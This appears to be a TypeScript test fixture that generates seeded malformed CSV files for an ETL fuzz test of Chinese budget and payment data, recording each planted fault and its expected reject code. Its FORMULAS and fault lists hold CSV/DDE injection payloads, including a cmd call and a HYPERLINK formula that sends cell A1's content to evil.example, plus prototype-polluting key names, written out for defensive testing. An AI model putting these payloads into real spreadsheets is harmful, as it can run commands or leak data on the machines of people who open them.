/**
 * Seeded generator of malformed source files for the ETL fuzz test (etl/fuzz.test.ts): flat CSV
 * files of a kind (payments, budget lines, adjustments) where valid rows are mixed with rows
 * carrying one planted fault each. Every planted row is recorded with its record number (as the
 * ETL and Excel count them: the header is row 1, a quoted line break does not start a row), the
 * fault and the reject code it must produce, so the test can compare planted and reported rejects
 * both ways. Valid rows also carry hostile-looking but legal content (formula-looking text,
 * prototype-polluting names, quoted commas and line breaks, full-width digits, a BOM, CR / LF /
 * CRLF line ends) and their exact money total in fen.
 */
import iconv from 'iconv-lite';
import { Rng } from '../../fixtures/random.ts';
import { kindSpec, type ColumnSpec } from '../kinds.ts';
import type { RejectCode } from '../report.ts';
import { paymentRow } from './make.ts';

/** Formula-looking strings (CSV/DDE injection payloads) that are legal text values. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
] as const;

/** Names that pollute a prototype when used as a plain object's key. */
export const PROTO_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'] as const;

export type FuzzKind = 'payments' | 'budget_lines' | 'adjustments';

export interface PlantedRow {
  row: number;
  fault: string;
  /** The reject code this row must get. */
  code: RejectCode;
  /** The header of the column the reject must name (undefined: a row-level reject). */
  column?: string;
}

export interface ValidRow {
  row: number;
  /** Column field → value as it must be stored (only the fields the test checks). */
  checks: Record<string, string>;
  /** Fields that find the row in the table (payments and adjustments). */
  key?: Record<string, string>;
}

export interface FuzzFile {
  kind: FuzzKind;
  bytes: Buffer;
  planted: PlantedRow[];
  valid: ValidRow[];
  /** Exact sum of the valid rows' amounts, in fen. */
  validFen: bigint;
}

const NL = ['\r\n', '\n', '\r'] as const;

function quote(c: string): string {
  return /[",\r\n]/.test(c) || c.startsWith(' ') ? `"${c.replace(/"/g, '""')}"` : c;
}

function fenText(fen: number): string {
  const a = Math.abs(fen);
  return `${fen < 0 ? '-' : ''}${Math.floor(a / 100)}.${String(a % 100).padStart(2, '0')}`;
}

const FULL_WIDTH = (s: string) => s.replace(/[0-9.]/g, (ch) => String.fromCharCode(ch.charCodeAt(0) + 0xfee0));

/** A valid row of the kind, deterministic from i; returns the cells and the amount in fen. */
function validCells(kind: FuzzKind, i: number, tag: string): { cells: string[]; fen: number } {
  if (kind === 'payments') {
    const cells = paymentRow(i, `F${tag}`);
    const [w, f] = (cells[10] as string).split('.') as [string, string];
    return { cells, fen: Number(w) * 100 + Number(f) };
  }
  const dept = i % 2 ? '001001' : '001002';
  const fn = dept === '001001' ? '2050101' : '2130501';
  const project = i % 3 === 0 ? '' : dept === '001001' ? 'P2026001' : 'P2026002';
  const fen = ((i * 104729) % 50_000_000) - (kind === 'adjustments' && i % 4 === 0 ? 25_000_000 : 0);
  if (kind === 'budget_lines') {
    const phase = ['批复', '调整', '执行', '决算'][i % 4] as string;
    return {
      cells: [
        '990000',
        '2026',
        phase,
        '一般公共预算',
        dept,
        project,
        fn,
        i % 5 ? '30101' : '',
        i % 2 ? '基本支出' : '项目支出',
        fenText(fen),
      ],
      fen,
    };
  }
  const date = `2026-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')}`;
  return {
    cells: [
      '990000',
      '2026',
      date,
      `临财预〔2026〕${tag}${i}号`,
      dept,
      project,
      fn,
      i % 2 ? '30101' : '30201',
      fenText(fen),
      `调整原因${i}`,
    ],
    fen,
  };
}

interface Ctx {
  rng: Rng;
  cols: readonly ColumnSpec[];
  cells: string[];
  /** Placeholder → raw bytes, substituted after the line is encoded. */
  raw: Map<string, Buffer>;
  /** Keys of earlier valid rows (duplicate-key faults copy one). */
  validKeys: string[][];
  keyIdx: number[];
  /** Column that gets an opening quote and no closing one. */
  unbalanced?: number;
}

interface Fault {
  name: string;
  /** Column types the fault applies to ('row' = a row-level fault). */
  on: readonly (ColumnSpec['type'] | 'row' | 'required' | 'key')[];
  code: RejectCode;
  /** Mutates ctx.cells (col = the column index for column faults); returns false if it cannot apply. */
  apply(ctx: Ctx, col: number): boolean | void;
  rowLevel?: boolean;
}

const set = (values: readonly string[]) => (ctx: Ctx, col: number) => {
  ctx.cells[col] = ctx.rng.pick(values);
};

const FAULTS: Fault[] = [
  {
    name: 'bad amount',
    on: ['money'],
    code: 'not_a_number',
    apply: set([
      'abc',
      '1.2.3',
      '=1+1',
      '+1+1',
      '-2+3',
      '@SUM(1)',
      'NaN',
      'Infinity',
      '0x1F',
      '12元整',
      '--5',
      '1e5',
      "=cmd|' /C calc'!A0",
    ]),
  },
  { name: 'sub-fen amount', on: ['money'], code: 'precision', apply: set(['12.345', '0.001', '１２.３４５']) },
  { name: 'huge amount', on: ['money'], code: 'out_of_range', apply: set(['99999999999999999999.00', '1' + '0'.repeat(40)]) },
  {
    name: 'bad date',
    on: ['date'],
    code: 'bad_date',
    apply: set([
      '2026-02-30',
      '2026-13-01',
      '2026-00-10',
      'yesterday',
      '=TODAY()',
      '@NOW()',
      '46082',
      '２０２６－１３－０１',
      '0000-00-00',
    ]),
  },
  { name: 'bad year', on: ['year'], code: 'bad_year', apply: set(['20260', '1989', 'abc', '=2026', '２１０１']) },
  { name: 'bad region', on: ['region'], code: 'bad_code', apply: set(['9900000', 'ABCDEF', '__proto__', 'constructor', '=990000']) },
  { name: 'unknown region', on: ['region'], code: 'unknown_region', apply: set(['990199', '110000']) },
  {
    name: 'bad code',
    on: ['code'],
    code: 'bad_code',
    apply: (ctx, col) => {
      ctx.cells[col] = ctx.rng.pick(['abc', '12345678901234', '-1', '=2+3', '__proto__', 'prototype']);
    },
  },
  {
    name: 'unknown code',
    on: ['code'],
    code: 'unknown_code',
    apply: (ctx, col) => {
      const c = ctx.cols[col] as ColumnSpec;
      if (c.ref === 'function_class') ctx.cells[col] = ctx.rng.pick(['2130599', '299', '20599']);
      else if (c.ref === 'economic_class') ctx.cells[col] = ctx.rng.pick(['39999', '399']);
      else return false;
    },
  },
  {
    name: 'unknown department',
    on: ['code'],
    code: 'unknown_department',
    apply: (ctx, col) => {
      if ((ctx.cols[col] as ColumnSpec).ref !== 'department') return false;
      ctx.cells[col] = ctx.rng.pick(['009999', '002001']); // 002001 belongs to another region
    },
  },
  {
    name: 'unknown project',
    on: ['text'],
    code: 'unknown_project',
    apply: (ctx, col) => {
      if ((ctx.cols[col] as ColumnSpec).ref !== 'project') return false;
      ctx.cells[col] = ctx.rng.pick(['PXXXX', '__proto__', 'constructor', '=P2026001']);
    },
  },
  {
    name: 'bad enum',
    on: ['enum'],
    code: 'bad_enum',
    // "一般公共预算" as UTF-8 read as Latin-1 (mojibake), prototype names, formulas
    apply: set(['ä¸€èˆ¬å…¬å…±é¢„ç®—', ...PROTO_NAMES, '=1+1', 'valueOf']),
  },
  { name: 'missing value', on: ['required'], code: 'missing_value', apply: set(['', '   ', '\t']) },
  {
    name: 'control character',
    on: ['text'],
    code: 'bad_char',
    apply: (ctx, col) => {
      if ((ctx.cols[col] as ColumnSpec).ref) return false; // a reference check would speak first
      const v = ctx.cells[col] || 'x';
      const at = ctx.rng.int(1, Math.max(1, v.length - 1));
      const ch = ctx.rng.pick(['\u0001', '\u0007', '\u001b[31m', '\u000b', '\u007f', '\u0008']);
      ctx.cells[col] = v.slice(0, at) + ch + v.slice(at);
    },
  },
  {
    name: 'NUL',
    on: ['text', 'code', 'money', 'date', 'enum', 'region', 'year'],
    code: 'bad_char',
    apply: (ctx, col) => {
      const v = ctx.cells[col] || 'x';
      const at = ctx.rng.int(0, v.length);
      ctx.cells[col] = `${v.slice(0, at)}\u0000${v.slice(at)}`;
    },
  },
  {
    name: 'invalid UTF-8',
    on: ['text', 'enum', 'code', 'money', 'date', 'region'],
    code: 'bad_encoding',
    apply: (ctx, col) => {
      const token = `\u0002TOKEN${ctx.raw.size}\u0002`;
      ctx.raw.set(
        token,
        ctx.rng.pick([
          Buffer.from([0xff, 0xfe]),
          Buffer.from([0xc3]), // a lead byte without its continuation
          Buffer.from([0xed, 0xa0, 0x80]), // an encoded surrogate
          iconv.encode('临江市建筑公司', 'gbk'), // a GBK row in a UTF-8 file
        ]),
      );
      ctx.cells[col] = (ctx.cells[col] ?? '') + token;
    },
  },
  {
    name: 'text too long',
    on: ['text'],
    code: 'too_long',
    apply: (ctx, col) => {
      const c = ctx.cols[col] as ColumnSpec;
      if (c.ref) return false;
      // voucher_no is VARCHAR(32); other text is capped at an Excel cell's 32,767 characters.
      ctx.cells[col] = c.field === 'voucher_no' ? 'V'.repeat(33) : ctx.rng.pick(['长', 'A', '=']).repeat(ctx.rng.int(32_768, 40_000));
    },
  },
  {
    name: 'duplicate key',
    on: ['key'],
    code: 'duplicate_key',
    rowLevel: true,
    apply: (ctx) => {
      const earlier = ctx.validKeys.length ? ctx.rng.pick(ctx.validKeys) : undefined;
      if (!earlier) return false;
      ctx.keyIdx.forEach((k, j) => (ctx.cells[k] = earlier[j] as string));
    },
  },
  {
    name: 'too few fields',
    on: ['row'],
    code: 'missing_value',
    apply: (ctx) => {
      let lastRequired = 0;
      ctx.cols.forEach((c, i) => (c.required ? (lastRequired = i) : undefined));
      ctx.cells.length = ctx.rng.int(1, lastRequired);
    },
  },
  {
    name: 'too many fields',
    on: ['row'],
    code: 'field_count',
    apply: (ctx) => {
      const amount = ctx.cols.findIndex((c) => c.type === 'money');
      if (ctx.rng.chance(0.5)) {
        // an unquoted thousands separator: 1,234.50
        ctx.cells[amount] = `1\u0003${(ctx.cells[amount] as string).replace('-', '')}`;
      } else ctx.cells.push(...Array.from({ length: ctx.rng.int(1, 3) }, () => ctx.rng.pick(['x', '=1+1', '__proto__', '0'])));
    },
  },
  {
    name: 'unbalanced quote',
    on: ['row'],
    code: 'bad_quote',
    apply: (ctx) => {
      ctx.unbalanced = ctx.rng.int(0, ctx.cells.length - 1);
    },
  },
];

/**
 * A CSV of `n` data rows of `kind`, a share `badShare` of them malformed. `tag` keeps keys of
 * different files apart.
 */
export function fuzzCsv(kind: FuzzKind, seed: number, n: number, badShare: number, tag: string): FuzzFile {
  const rng = new Rng(seed, `fuzz/${kind}/${tag}`);
  const spec = kindSpec(kind);
  const cols = spec.columns;
  const keyIdx = spec.key.map((k) => cols.findIndex((c) => c.field === k)).filter((i) => i >= 0);
  const parts: Buffer[] = [];
  const planted: PlantedRow[] = [];
  const valid: ValidRow[] = [];
  const validKeys: string[][] = [];
  let validFen = 0n;
  const nl = () => rng.pick(NL);
  parts.push(Buffer.from(`\uFEFF${cols.map((c) => c.headers[0]).join(',')}${nl()}`));
  const textCols = cols.map((c, i) => (c.type === 'text' && !c.ref && !spec.key.includes(c.field) ? i : -1)).filter((i) => i >= 0);
  const amountIdx = cols.findIndex((c) => c.type === 'money');
  let row = 1;
  for (let i = 0; i < n; i++) {
    row++;
    const { cells, fen } = validCells(kind, i, tag);
    const ctx: Ctx = { rng, cols, cells, raw: new Map(), validKeys, keyIdx };
    let prefix = '';
    if (rng.chance(badShare)) {
      // Pick a fault that applies to this kind, then a column it applies to.
      for (;;) {
        const fault = rng.pick(FAULTS);
        const targets = cols
          .map((c, ci) => ({ c, ci }))
          .filter(({ c }) => fault.on.includes(c.type) || (fault.on.includes('required') && c.required))
          .map(({ ci }) => ci);
        const rowLevel = fault.on.includes('row') || (fault.on.includes('key') && keyIdx.length > 0);
        if (!rowLevel && targets.length === 0) continue;
        const col = rowLevel ? -1 : rng.pick(targets);
        if (fault.apply(ctx, col) === false) continue;
        const at = ctx.unbalanced ?? col;
        const column = at >= 0 ? (cols[at]?.headers[0] as string) : undefined;
        planted.push({ row, fault: fault.name, code: fault.code, ...(column !== undefined ? { column } : {}) });
        break;
      }
    } else {
      // Valid, with hostile-looking but legal content.
      const checks: Record<string, string> = {};
      const r = rng.float();
      if (r < 0.15 && textCols.length) {
        const t = rng.pick(textCols);
        // Leading/trailing whitespace is trimmed by the ETL; a formula keeps its inner text.
        cells[t] = rng.pick([...FORMULAS, ...PROTO_NAMES]);
        checks[(cols[t] as ColumnSpec).field] = (cells[t] as string).trim();
      } else if (r < 0.22 && textCols.length) {
        const t = rng.pick(textCols);
        cells[t] = rng.pick(['某"公司",\n二部', '甲,乙,丙', '"引号"', '多行\r\n文本']);
        checks[(cols[t] as ColumnSpec).field] = cells[t] as string;
      } else if (r < 0.27) {
        cells[amountIdx] = FULL_WIDTH(cells[amountIdx] as string);
      } else if (r < 0.32) {
        const v = cells[amountIdx] as string;
        const [w, f] = v.replace('-', '').split('.') as [string, string];
        cells[amountIdx] = `${v.startsWith('-') ? '-' : ''}${w.replace(/\B(?=(\d{3})+$)/g, ',')}.${f}`;
      } else if (r < 0.35) {
        prefix = '\uFEFF'; // a BOM in the middle of the file (two exports pasted together)
      } else if (r < 0.38) {
        cells[amountIdx] = ` ${cells[amountIdx] as string} `;
      }
      const lookup = kind === 'payments' ? 'voucher_no' : kind === 'adjustments' ? 'doc_no' : undefined;
      const li = cols.findIndex((c) => c.field === lookup);
      valid.push({
        row,
        checks,
        ...(li >= 0 ? { key: { region_code: cells[0] as string, [lookup as string]: cells[li] as string } } : {}),
      });
      validFen += BigInt(fen);
      if (keyIdx.length) validKeys.push(keyIdx.map((k) => cells[k] as string));
    }
    // Unbalanced quote: an opening quote at the start of a field that never closes.
    const line =
      prefix +
      cells
        .map((c, ci) => (ci === ctx.unbalanced ? `"${c}` : quote(c)))
        .join(',')
        .replace('\u0003', ',');
    let buf = Buffer.from(line + nl());
    for (const [token, bytes] of ctx.raw) {
      const at = buf.indexOf(token);
      buf = Buffer.concat([buf.subarray(0, at), bytes, buf.subarray(at + Buffer.byteLength(token))]);
    }
    parts.push(buf);
  }
  return { kind, bytes: Buffer.concat(parts), planted, valid, validFen };
}
